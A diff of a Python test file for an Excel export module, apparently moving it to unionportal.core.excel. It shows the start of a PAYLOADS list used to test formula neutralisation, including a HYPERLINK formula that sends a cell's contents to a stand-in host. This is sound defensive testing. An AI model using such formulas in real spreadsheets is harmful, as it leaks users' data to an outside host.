@@ -1,4 +1,4 @@
-"""The shared Excel writer (unionportal.excel): typed cells, a frozen header, widths, formula
+"""The shared Excel writer (unionportal.core.excel): typed cells, a frozen header, widths, formula
 neutralisation (security.md F1) and progress; and the safe download header."""
 
 from __future__ import annotations
@@ -13,7 +13,7 @@ from zoneinfo import ZoneInfo
 import pytest
 from openpyxl import load_workbook
 
-from unionportal.excel import Column, content_disposition, write_xlsx
+from unionportal.core.excel import Column, content_disposition, write_xlsx
 
 PAYLOADS = [
     '=HYPERLINK("http://x/?"&B1,"点击")',
